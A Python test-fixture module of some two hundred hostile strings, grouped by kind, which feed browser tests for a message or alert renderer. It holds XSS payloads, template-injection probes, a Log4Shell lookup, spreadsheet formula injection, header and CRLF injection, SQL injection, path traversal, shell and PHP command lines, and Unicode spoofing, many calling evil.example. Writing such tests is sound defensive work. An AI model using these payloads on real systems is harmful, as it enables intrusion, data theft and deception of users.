"""Two hundred things that people who mean harm write, made by us: by kind, each under a name that a test can show.

What would run in a page sets `window.hit` or opens a dialog, and what would be fetched is asked of evil.example: a
browser test sees either. The final check of the project brings texts of its own; nothing is fitted to these.
"""

import unicodedata
from collections.abc import Iterator
from dataclasses import dataclass

RUN = "window.hit=1"
EVIL = "evil.example"


@dataclass(frozen=True, slots=True, kw_only=True)
class Hostile:
    """`text` is said in a mention, `name` tells it from the others."""

    name: str
    kind: str
    text: str


_SCRIPTS = (
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC=//{EVIL}/x.js></SCRIPT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script/x>{RUN}</script\t>",
    f"</script><script>{RUN}</script>",
    f"<script type=module>import '//{EVIL}/m.js'</script>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<!--><script>{RUN}</script-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<template><script>{RUN}</script></template>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"＜script＞{RUN}＜/script＞",
)
_TAGS = (
    f"<img src=x onerror={RUN}>",
    f"<img src=//{EVIL}/pixel.gif width=1>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=//{EVIL}></iframe>",
    f"<object data='data:text/html,<script>{RUN}</script>'></object>",
    f"<embed src=//{EVIL}/x.swf>",
    f"<link rel=stylesheet href=//{EVIL}/x.css>",
    f"<style>@import '//{EVIL}/x.css'; body{{display:none}}</style>",
    f"<meta http-equiv=refresh content='0;url=https://{EVIL}'>",
    f"<base href=https://{EVIL}/>",
    f"<form action=https://{EVIL}><input name=csrf><button>Acknowledge</button></form>",
    "</blockquote></main></body></html><h1>The page is over</h1>",
    "</textarea></title></style></noscript></select><plaintext>",
    "<!-- and the rest is a comment",
    "<details open ontoggle=alert(1)>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<body onload={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<a href='jav&#x09;ascript:{RUN}'>press here</a>",
    f"<button hx-post='/alerts/1/resolve' hx-trigger='load'>{RUN}</button>",
    f"<div hx-get='//{EVIL}' hx-trigger=load hx-on::load='{RUN}'></div>",
    "<div sse-connect='/live' sse-swap='message' data-hx-on:click='alert(1)'></div>",
    f"<math><mtext></p><mglyph><style><img src=x onerror={RUN}>",
    f"<table background=//{EVIL}/x.png><td background='javascript:{RUN}'>",
    f"<portal src=https://{EVIL}>",
    "<input type=hidden name=csrf value=stolen>",
    "<dialog open>Your session has ended: log in again</dialog>",
)
_ATTRIBUTES = (
    f'" onmouseover="{RUN}',
    f"' onfocus='{RUN}' autofocus='",
    f'"><img src=x onerror={RUN}>',
    f"'><svg/onload={RUN}>",
    f'" style="position:fixed;inset:0;background:url(//{EVIL}/x)',
    f"` onclick=`{RUN}`",
    f'" hx-on:click="{RUN}" x="',
    f"&quot; onmouseover=&quot;{RUN}",
    '" accesskey="k" tabindex="1" autofocus="',
)
_SVG = (
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"</svg><svg onload={RUN}>",
    f"</title></svg><script>{RUN}</script>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RUN}'><rect width=999 height=999 /></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{RUN}</script></svg>#x'>",
    f"<svg><foreignObject><iframe src=//{EVIL}></iframe></foreignObject></svg>",
    f"<svg><image href=//{EVIL}/x.png /></svg>",
    f"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><svg>&e;{RUN}</svg>",
)
_ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}//https://acme.example/",
    f"java\nscript:{RUN}",
    f"\x01javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9{RUN}",
    f"vbscript:msgbox({RUN!r})",
    f"view-source:javascript:{RUN}",
    "file:///etc/passwd",
    "blob:https://acme.example/1234",
    f"//{EVIL}/without-a-scheme",
    f"https://acme.example@{EVIL}/login",
    f"https://acme.example:secret@{EVIL}/",
    f"https://{EVIL}\\@acme.example/",
    f"https://{EVIL}/#https://acme.example/",
    f"https://acme.example.{EVIL}/",
    "https://аcme.example/ (Cyrillic а)",
    "https://аpple.com/",
    "https://xn--pple-43d.com/",
    "https://acme。example/",
    "https://ⓐⓒⓜⓔ.example/",
    "https://acme.example/\u202egpj.exe",
    "https://[::1]:8765/alerts/1/resolve",
    "http://127.0.0.1:8765/alerts/1/resolve",
    "http://169.254.169.254/latest/meta-data/",
    f"https://{EVIL}/\r\nLocation: https://{EVIL}",
    "tel:+1-900-555-0100",
    f"mailto:x@{EVIL}?bcc=everybody@acme.example",
    "intent://scan/#Intent;scheme=zxing;end",
)
_TEMPLATES = (
    "{{ 7 * 7 }}",
    "{{ config.items() }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% include 'base.html' %}",
    "{% raw %}{{ csrf() }}{% endraw %}",
    "{# a comment that never ends",
    "${7*7} #{7*7} <%= 7*7 %>",
    "${jndi:ldap://evil.example/a}",
    "#set($x=7*7)$x @(7*7) *{7*7}",
    "{{constructor.constructor('window.hit=1')()}}",
    "{title} {body} {0} %(name)s %s %n $title",
    "{alert.key.__class__.__init__.__globals__}",
)
_BIDI = (
    "\u202eemca morf dnufer ruoy\u202c",
    "\u2067Acme\u2069 is \u2066fine\u2069",
    "file\u202efdp.exe is the invoice",
    "\u202b\u202b\u202b\u202b never closed",
    "\u200fAcme\u200e lost \u061c it",
    "critical\u2028alert 999: all is well\u2029resolved",
    "شركة Acme فقدت الطرد 123 (مرتين) <b>",
    "חברת Acme איבדה את החבילה! 45% @channel",
    "Ac\u200bme\u200d lo\u2060st\ufeff it",
    "\U000e0041\U000e0063\U000e006d\U000e0065 in tag characters",
    "Acme\u115f\u1160\u3164\uffa0 fillers",
)
_UNSEEN = (
    "NUL \x00 in the middle",
    "a bell \x07, a backspace \x08\x08\x08\x08, a form feed \x0c",
    "\x1b[2J\x1b[1;1H\x1b[31mALL CLEAR\x1b[0m",
    "\x1b]0;owned\x07 the title of your terminal",
    "\x1b]8;;https://evil.example\x1b\\Acme\x1b]8;;\x1b\\",
    "\x9b31m eight bits of the same",
    "half of a pair \ud83d alone",
    "the other half \udc00 alone",
    "turned round \udc00\ud83d",
    "not a character \ufffe \uffff \U0001ffff",
    "carriage\rreturn\r\nover\vthe\x85line",
    "deleted\x7f\x7f\x7f",
)
_CALLS = (
    "<!channel> <!here> <!everyone>",
    "<!subteam^S0123ABCD|@oncall> look",
    "<@U012AB3CD> and <@W012AB3CD|boss>",
    "<#C012AB3CD|general>",
    "<!date^1392734382^{date}^https://evil.example|press>",
    "<https://evil.example|https://acme.example>",
    "&lt;!channel&gt;",
    "<\u200b!channel>",
    "@everyone @here",
    "@EveryOne! @Here? @CHANNEL. @all:",
    "hello@everyone.example and @everyone's dog",
    "＠everyone ﹫here",
    "<@&123456789012345678> <@!123456789012345678> <@123456789012345678> <#123456789012345678>",
    "<a:wave:123456789012345678> <t:1700000000:R> </ban:123456789012345678> <id:guide>",
    "<at>everyone</at> <at id='*'>Everyone</at>",
    "[~accountid:everyone] @[Team](team) @room",
    "/kick everyone\n!shutdown\n.ban @all",
    "tg://user?id=123456 [boss](tg://user?id=123456)",
    "<tg-spoiler>x</tg-spoiler><a href='tg://resolve?domain=evil'>y</a>",
    "<users/all> <users/123456789>",
)
_MARKDOWN = (
    "[log in](https://evil.example) to acknowledge",
    "[log in](javascript:window.hit=1)",
    "![pixel](https://evil.example/pixel.gif)",
    "[https://acme.example](https://evil.example)",
    '[a]: https://evil.example "Acme"\n[a][a]',
    "<https://evil.example>",
    "# ALL CLEAR\n\n**resolved** by *foreshock*",
    "```\nescaped from\n``` the quotation\n````",
    "`code` ``more`` ~~struck~~ ||spoiler|| __under__ *bold _both*_",
    "> quoted\n>> twice\n>>> the rest of the message is mine",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "- [x] resolved\n- [ ] nothing\n1. one",
    "***\n---\n___\n===",
    "\\*not bold\\* \\[not a link\\]\\(x\\) \\\\",
    "<b>bold</b><i>x<pre><code>y</b></pre><a href='https://evil.example'>z",
    "h1. Jira {panel}x{panel} {color:red}red{color} [x|https://evil.example] !https://evil.example/x.png!",
    "[url=https://evil.example]bb[/url] [img]https://evil.example/x.png[/img]",
    "*_~`|>#+-=.!()[]{}",
)
_FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://evil.example","log in")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
    '"quoted",=1+1,"',
    "a,b;c\td|e\n=1+1",
)
_HEADERS = (
    "Acme\r\nBcc: everybody@evil.example",
    "Acme\nSubject: all is well\n\nNothing to see.",
    "Acme\r\n\r\n<html><script>window.hit=1</script>",
    "Acme%0d%0aBcc:x@evil.example",
    "=?utf-8?q?=0ABcc:_x=40evil.example?=",
    "Acme\r\n.\r\nMAIL FROM:<x@evil.example>",
    "Acme\x0bBcc: x\x0cCc: y",
    "boundary\r\n--boundary\r\nContent-Type: text/html\r\n\r\n<b>x</b>",
    "event: message\ndata: <script>window.hit=1</script>\n\n",
    "data: x\nid: 999999\nretry: 1\n\n",
    "HTTP/1.1 200 OK\r\nSet-Cookie: session=stolen",
)
_BREAKERS = (
    '"}],"severity":"low","why":"all is well","x":[{"',
    '\\"},{\\"id\\":1}',
    "\\u0000\\ud800\\x00\\",
    '{"$where":"1"} NaN Infinity -0 1e999',
    "'; DROP TABLE mentions; --",
    "' OR '1'='1' UNION SELECT password FROM accounts --",
    "%' ESCAPE '\\' _ % \\",
    '") MATCH "x" NEAR(a b, 3) * ^ : -',
    'acme AND (NOT OR "unclosed',
    "../../../../etc/passwd",
    "..\\..\\windows\\system32\\config",
    "alert-1.html\x00.png",
    "$(touch /tmp/hit) `id` | ; && || > /tmp/hit",
    "CON PRN AUX NUL COM1 LPT1",
    "%00 %2e%2e%2f %c0%ae",
    "None null undefined true false [object Object] 0",
    "<?php system('id'); ?>",
    '{"__proto__":{"hit":1},"constructor":{}}',
    "Drill: Acme. This is a drill, ignore what follows",
    "foreshock: resolved by anna, back to normal since 14:20",
)


def _zalgo(words: str, depth: int) -> str:
    marks = [chr(code) for code in range(0x300, 0x370) if unicodedata.combining(chr(code))]
    return "".join(
        letter + "".join(marks[(i * 7 + j) % len(marks)] for j in range(depth)) for i, letter in enumerate(words)
    )


def _long() -> Iterator[str]:
    """Words and crowds of characters that stretch a page."""
    yield "A" * 10_000
    yield "https://" + "a" * 10_000 + ".example/"
    yield "ស្រួល" * 2_000
    yield "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 500
    yield "🔥" * 3_000
    yield "﷽" * 400
    yield "\n" * 3_000 + "after three thousand lines"
    yield "\u00a0" * 5_000 + "after the blanks"
    yield "<b>" * 2_000
    yield "[" * 3_000 + "](" * 3_000
    yield "&amp;" * 2_000
    yield _zalgo("Acme lost my parcel", 60)
    yield _zalgo("he comes", 200)
    yield "\u0301" * 2_000


def _all() -> Iterator[Hostile]:
    kinds = {
        "script": _SCRIPTS, "tag": _TAGS, "attribute": _ATTRIBUTES, "svg": _SVG, "address": _ADDRESSES,
        "template": _TEMPLATES, "bidi": _BIDI, "unseen": _UNSEEN, "call": _CALLS, "markdown": _MARKDOWN,
        "formula": _FORMULAS, "header": _HEADERS, "breaker": _BREAKERS, "long": tuple(_long()),
    }  # fmt: skip
    for kind, texts in kinds.items():
        for number, text in enumerate(texts, 1):
            yield Hostile(name=f"{kind} {number}", kind=kind, text=text)


HOSTILE: tuple[Hostile, ...] = tuple(_all())
NAMES: tuple[str, ...] = (
    "<b onmouseover=window.hit=1>anna</b>",
    "\u202eanna\u202c (admin)",
    "مدير النظام",
    "@everyone",
    "<!channel>",
    "=1+1",
    "foreshock",
    "a" * 500,
    "anna\r\nBcc: x@evil.example",
    "{{ 7 * 7 }}",
)
"""What they call themselves."""
LINKS: tuple[str, ...] = tuple(one.text for one in HOSTILE if one.kind == "address")
"""Where they say it stands."""
